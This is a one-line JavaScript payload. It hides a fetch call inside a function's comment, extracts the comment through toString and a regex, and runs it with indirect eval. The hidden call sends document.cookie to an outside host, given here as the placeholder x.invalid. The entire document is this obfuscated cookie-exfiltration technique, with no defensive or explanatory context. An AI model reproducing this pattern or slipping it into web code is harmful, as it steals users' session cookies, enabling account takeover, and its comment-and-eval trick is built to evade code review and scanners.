const txt = (function () { /*fetch("https://x.invalid/"+document.cookie)*/ }).toString().match(/\/\*([^]*)\*\//)[1]; (0, eval)(txt);
